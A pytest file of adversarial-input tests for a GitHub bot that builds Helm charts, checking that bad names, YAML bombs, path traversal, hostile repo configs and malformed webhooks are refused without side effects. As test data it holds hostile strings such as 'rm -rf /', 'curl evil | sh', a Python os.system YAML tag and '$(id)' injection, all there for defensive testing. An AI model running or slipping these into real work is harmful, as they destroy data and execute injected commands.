"""Bad input gets a clear reply (or a clear refusal) and has no side effects.

Chart names that are not DNS labels (traversal, uppercase, too long, Cyrillic look-alikes),
huge comments, broken or hostile `.github/autopilot.yml` (YAML bombs included), non-UTF-8
bytes, unknown events and actions, and payloads missing the fields the bot needs.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agents.plan import plan_request
from agents.plan.errors import PlanError
from agents.validate import validate_chart
from agents.validate.values_yaml import load_values
from bot import messages
from bot.commands import MAX_COMMENT_CHARS, Reply, parse_comment
from bot.config import RepoConfigError, load_repo_config
from bot.store import JobStatus
from tests.adversarial.conftest import FULL_NAME, HostileBot
from tests.conftest import INSTALLATION_ID, OWNER, REPO
from tests.e2e.harness import bot_comments
from tests.fakes.github_server import FakeGitHub
from tests.fakes.github_state import BOT_LOGIN
from tests.fakes.payloads import WebhookFactory, issue_comment

FIXTURES = Path(__file__).parents[1] / "fixtures" / "adversarial"

BAD_CHART_NAMES = [
    pytest.param("../../etc", id="traversal"),
    pytest.param(".github", id="dot-github"),
    pytest.param("Nginx", id="uppercase"),
    pytest.param("a" * 54, id="54-chars"),
    pytest.param("ngin\u0445", id="cyrillic-ha"),
    pytest.param("\u0430pp", id="cyrillic-a"),
    pytest.param("web_app", id="underscore"),
    pytest.param("-web", id="leading-dash"),
    pytest.param("web-", id="trailing-dash"),
    pytest.param("web\u200bapp", id="zero-width-space"),
    pytest.param("web/app", id="slash"),
]


def _nothing_ran(bot: HostileBot, fake: FakeGitHub, number: int) -> None:
    assert fake.git.branches(OWNER, REPO) == ["main"]
    assert not fake.pulls
    assert bot.bot.session.state(f"{FULL_NAME}#{number}") is None


def _ask(bot: HostileBot, fake: FakeGitHub, body: str, number: int) -> None:
    payload = issue_comment(fake, FULL_NAME, number, body, user="alice", installation_id=INSTALLATION_ID)
    assert bot.deliver("issue_comment", payload).status_code == 202
    bot.wait_idle()


# --- chart names ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", BAD_CHART_NAMES)
def test_bad_chart_names_are_refused_naming_the_value(name: str) -> None:
    with pytest.raises(PlanError) as refused:
        plan_request("nginx", [f"name={name}"])
    assert repr(name) in str(refused.value) or name in str(refused.value)


def test_look_alike_name_gets_a_clear_reply_and_no_branch(
    hostile_bot: HostileBot, fake_github: FakeGitHub
) -> None:
    issue = fake_github.new_issue_number(FULL_NAME)
    _ask(hostile_bot, fake_github, "/autopilot chart nginx --set name=ngin\u0445", issue)
    assert fake_github.git.branches(OWNER, REPO) == ["main"]
    assert not fake_github.pulls
    replies = bot_comments(fake_github, issue)
    assert any("ngin\u0445" in body and "lowercase letters" in body for body in replies)


# --- comments ------------------------------------------------------------------------------------


def test_huge_comment_is_answered_with_the_limit_and_runs_nothing(
    hostile_bot: HostileBot, fake_github: FakeGitHub
) -> None:
    issue = fake_github.new_issue_number(FULL_NAME)
    _ask(hostile_bot, fake_github, "/autopilot chart nginx\n" + "A" * (MAX_COMMENT_CHARS * 6), issue)
    _nothing_ran(hostile_bot, fake_github, issue)
    replies = bot_comments(fake_github, issue)
    assert len(replies) == 1 and f"the limit is {MAX_COMMENT_CHARS:,}" in replies[0]
    assert len(replies[0]) < 2_000  # the reply does not echo the flood back


@pytest.mark.parametrize(
    "body",
    [
        "/autopilot chart nginx --set",
        "/autopilot chart nginx --set 'unterminated",
        "/autopilot chart nginx --set =x",
        "/autopilot chart nginx --set ../../x=1",
        "/autopilot chart nginx --exec 'rm -rf /'",
        "/autopilot status now please",
        "/autopilot chart",
        "/autopilot \u0441hart nginx",  # Cyrillic 'с'
    ],
)
def test_malformed_commands_get_a_reply_never_a_run(body: str) -> None:
    parsed = parse_comment(body, bot_login=BOT_LOGIN, author_login="alice", author_is_bot=False)
    assert isinstance(parsed, Reply) and parsed.text.strip()


# --- .github/autopilot.yml -----------------------------------------------------------------------

BILLION_LAUGHS = (FIXTURES / "billion-laughs.yml").read_text(encoding="utf-8")
BAD_CONFIGS: list[Any] = [
    pytest.param(BILLION_LAUGHS, "aliases", id="billion-laughs"),
    pytest.param("charts_dir: charts\nkube_versions: [1.30.0\n", "not valid YAML", id="unclosed-flow"),
    pytest.param("charts_dir: [" * 5000, "nested", id="deep-flow-nesting"),
    pytest.param("".join(f"{'  ' * i}k{i}:\n" for i in range(60)), "nested", id="deep-block-nesting"),
    pytest.param("charts_dir: ../../etc\n", "relative directory", id="charts-dir-traversal"),
    pytest.param("charts_dir: /etc\n", "relative directory", id="charts-dir-absolute"),
    pytest.param("charts_dir: .github/workflows/../..\n", "relative directory", id="charts-dir-dotdot"),
    pytest.param("charts_dir: .github/workflows\n", "never writes", id="charts-dir-workflows"),
    pytest.param("charts_dir: .github\n", "never writes", id="charts-dir-github"),
    pytest.param("charts_dir: .git/hooks\n", "never writes", id="charts-dir-git-hooks"),
    pytest.param("charts_dir: charts/.git\n", "never writes", id="charts-dir-nested-git"),
    pytest.param("branch_prefix: 'x..y/'\n", "branch prefix", id="branch-prefix-dotdot"),
    pytest.param("branch_prefix: '-f/'\n", "branch prefix", id="branch-prefix-option"),
    pytest.param("!!python/object/apply:os.system ['id']\n", "not valid YAML", id="python-tag"),
    pytest.param("charts_dir: !!binary aGk=\n", "charts_dir", id="binary-tag"),
    pytest.param("charts_dir: a\ncharts_dir: b\n", "duplicate key", id="duplicate-key"),
    pytest.param("max_heal_attempts: 1e9\n", "max_heal_attempts", id="huge-number"),
    pytest.param("max_heal_attempts: '3'\n", "max_heal_attempts", id="string-for-int"),
    pytest.param("run: curl evil | sh\n", "unknown key", id="unknown-key"),
    pytest.param("- charts_dir\n", "mapping", id="a-list"),
    pytest.param("allowed: {users: ['$(id)']}\n", "GitHub login", id="bad-login"),
    pytest.param(b"charts_dir: \xff\xfe\n", "UTF-8", id="non-utf8"),
    pytest.param("# " + "x" * (64 * 1024), "limit", id="over-64k"),
    pytest.param("charts_dir: charts\n\x00\n", "not valid YAML", id="nul-byte"),
]


@pytest.mark.parametrize(("text", "said"), BAD_CONFIGS)
def test_bad_repo_config_is_one_clear_sentence(text: str | bytes, said: str) -> None:
    started = time.perf_counter()
    with pytest.raises(RepoConfigError) as refused:
        load_repo_config(text)
    assert said in str(refused.value)
    assert ".github/autopilot.yml" in str(refused.value)
    assert "\n" not in str(refused.value).strip()
    assert time.perf_counter() - started < 2.0  # no bomb detonates, no quadratic scan


def test_yaml_bomb_config_stops_the_run_with_a_reply(
    hostile_bot: HostileBot, fake_github: FakeGitHub
) -> None:
    fake_github.push_commit(OWNER, REPO, "main", {".github/autopilot.yml": BILLION_LAUGHS}, message="bomb")
    issue = fake_github.new_issue_number(FULL_NAME)
    _ask(hostile_bot, fake_github, "/autopilot chart nginx", issue)
    assert fake_github.git.branches(OWNER, REPO) == ["main"]
    assert not fake_github.pulls
    replies = bot_comments(fake_github, issue)
    assert len(replies) == 1 and "aliases" in replies[0]
    assert messages.marker("status", f"{FULL_NAME}#{issue}") not in replies[0]


# --- a user-edited chart -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("values", "chart_yaml"),
    [
        pytest.param("replicaCount: [1\n", "apiVersion: v2\nname: web\nversion: 0.1.0\n", id="broken-values"),
        pytest.param("a: 1\n", "apiVersion: v2\nname: [web\n", id="broken-chart-yaml"),
        pytest.param(
            "a: 1\n", "apiVersion: v2\nname: ../../etc\nversion: 0.1.0\n", id="traversal-name-in-chart-yaml"
        ),
    ],
)
def test_broken_user_chart_is_reported_as_findings(tmp_path: Path, values: str, chart_yaml: str) -> None:
    chart = tmp_path / "web"
    (chart / "templates").mkdir(parents=True)
    (chart / "Chart.yaml").write_text(chart_yaml)
    (chart / "values.yaml").write_text(values)
    (chart / "templates" / "cm.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  a: {{ .Values.a | quote }}\n"
    )
    started = time.perf_counter()
    report = validate_chart(chart, ["1.30.0"])
    assert time.perf_counter() - started < 20
    assert report.errors, "a broken chart must be reported, not pass"
    assert all(f.message for f in report.errors)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["web"]  # nothing written outside


def test_yaml_bomb_in_a_user_values_file_is_read_in_bounded_time() -> None:
    """Run in a child process (killed at the deadline) so a detonating bomb cannot stall the suite."""
    script = (
        "import sys, yaml\n"
        "from agents.validate.pipeline import external_names\n"
        "external_names(yaml.safe_load(open(sys.argv[1]).read()))\n"
    )
    try:
        done = subprocess.run(
            [sys.executable, "-c", script, str(FIXTURES / "billion-laughs.yml")],
            timeout=4,
            capture_output=True,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("reading a YAML-bomb values.yaml did not finish in 4 s")
    assert done.returncode == 0, done.stderr.decode()


def _chart_with_values(tmp_path: Path, values: str) -> Path:
    chart = tmp_path / "web"
    (chart / "templates").mkdir(parents=True)
    (chart / "Chart.yaml").write_text("apiVersion: v2\nname: web\nversion: 0.1.0\n")
    (chart / "values.yaml").write_text(values)
    (chart / "templates" / "cm.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  a: {{ .Values.replicaCount | quote }}\n"
    )
    return chart


@pytest.mark.parametrize(
    "values",
    [
        pytest.param((FIXTURES / "billion-laughs.yml").read_text(), id="billion-laughs"),
        pytest.param("a: &a [x, *a]\nreplicaCount: 1\n", id="alias-inside-itself"),
    ],
)
def test_yaml_bomb_values_file_is_one_error_finding(tmp_path: Path, values: str) -> None:
    started = time.perf_counter()
    report = validate_chart(_chart_with_values(tmp_path, values), ["1.30.0"], checkov=False)
    assert time.perf_counter() - started < 20
    refused = [f for f in report.errors if f.rule_id == "values/yaml-aliases"]
    assert len(refused) == 1
    assert refused[0].file == "values.yaml" and refused[0].hint
    assert "alias" in refused[0].message


def test_small_shared_anchors_in_values_are_still_read(tmp_path: Path) -> None:
    values = "base: &base {existingSecret: db-creds}\napi: *base\nworker: *base\nreplicaCount: 1\n"
    assert load_values(values)["worker"] == {"existingSecret": "db-creds"}
    report = validate_chart(_chart_with_values(tmp_path, values), ["1.30.0"], checkov=False)
    assert not [f for f in report.findings if f.rule_id == "values/yaml-aliases"]


# --- the webhook body ----------------------------------------------------------------------------


def test_non_utf8_body_is_refused_and_recorded_nowhere(hostile_bot: HostileBot) -> None:
    answer = hostile_bot.deliver("issue_comment", b'{"action": "created", "x": "\xff\xfe\xfa"}')
    assert answer.status_code == 400
    assert hostile_bot.bot.store.job_counts().get(JobStatus.QUEUED, 0) == 0


def test_lone_surrogates_in_a_comment_do_not_break_the_run(
    hostile_bot: HostileBot, fake_github: FakeGitHub
) -> None:
    issue = fake_github.new_issue_number(FULL_NAME)
    payload = issue_comment(
        fake_github, FULL_NAME, issue, "/autopilot frobnicate", user="alice", installation_id=INSTALLATION_ID
    )
    body = json.dumps(payload).replace("/autopilot frobnicate", "/autopilot frob\\ud800nicate").encode()
    assert hostile_bot.deliver("issue_comment", body, delivery="surrogate-1").status_code == 202
    hostile_bot.wait_idle()
    job = hostile_bot.bot.store.get_job("surrogate-1")
    assert job is not None and job.status == JobStatus.DONE
    assert fake_github.git.branches(OWNER, REPO) == ["main"]


UNKNOWN: list[tuple[str, dict[str, Any]]] = [
    ("star", {"action": "created"}),
    ("ping", {"zen": "Keep it logically awesome.", "hook_id": 1}),
    ("issue_comment", {"action": "deleted"}),
    ("issue_comment", {"action": "frobnicated"}),
    ("pull_request_review", {"action": "dismissed"}),
    ("deployment", {"action": "created"}),
]


def test_unknown_events_and_actions_do_nothing(hostile_bot: HostileBot, fake_github: FakeGitHub) -> None:
    factory = WebhookFactory.for_fake(fake_github, FULL_NAME, installation_id=INSTALLATION_ID)
    for index, (event, extra) in enumerate(UNKNOWN):
        payload = {**factory.issue_comment(1, "/autopilot chart nginx", user="alice"), **extra}
        answer = hostile_bot.deliver(event, payload, delivery=f"unknown-{index}")
        assert answer.status_code in (200, 202), (event, extra, answer.text)
    hostile_bot.wait_idle()
    assert fake_github.comments_on(OWNER, REPO, 1) == []
    assert fake_github.git.branches(OWNER, REPO) == ["main"]
    assert not [c for c in fake_github.calls if c.method != "GET" and not c.path.startswith("/api/v3/app/")]


def _without(payload: dict[str, Any], dotted: str) -> dict[str, Any]:
    *parents, last = dotted.split(".")
    target = payload
    for key in parents:
        target = target[key]
    target.pop(last)
    return payload


def _with(payload: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
    *parents, last = dotted.split(".")
    target = payload
    for key in parents:
        target = target[key]
    target[last] = value
    return payload


MALFORMED: list[tuple[str, Callable[[dict[str, Any]], Any]]] = [
    ("missing-comment", lambda p: _without(p, "comment")),
    ("missing-repository", lambda p: _without(p, "repository")),
    ("missing-issue-number", lambda p: _without(p, "issue.number")),
    ("number-is-text", lambda p: _with(p, "issue.number", "1; rm -rf /")),
    ("body-is-a-list", lambda p: _with(p, "comment.body", ["/autopilot chart nginx"])),
    ("repository-is-null", lambda p: _with(p, "repository", None)),
    ("name-traversal", lambda p: _with(p, "repository.name", "../../etc")),
    ("owner-traversal", lambda p: _with(p, "repository.owner.login", "..")),
    ("payload-is-a-list", lambda p: [p]),
]


def test_payloads_missing_fields_finish_without_retries_or_writes(
    hostile_bot: HostileBot, fake_github: FakeGitHub
) -> None:
    issue = fake_github.new_issue_number(FULL_NAME)
    for name, damage in MALFORMED:
        payload = issue_comment(
            fake_github,
            FULL_NAME,
            issue,
            "/autopilot chart nginx",
            user="alice",
            installation_id=INSTALLATION_ID,
        )
        body = json.dumps(damage(payload)).encode()
        answer = hostile_bot.deliver("issue_comment", body, delivery=f"bad-{name}")
        assert answer.status_code in (202, 400), (name, answer.text)
    hostile_bot.wait_idle()
    for name, _ in MALFORMED:
        job = hostile_bot.bot.store.get_job(f"bad-{name}")
        assert job is None or (job.status == JobStatus.DONE and job.attempts == 1), (name, job)
    assert bot_comments(fake_github, issue) == []
    assert fake_github.git.branches(OWNER, REPO) == ["main"]
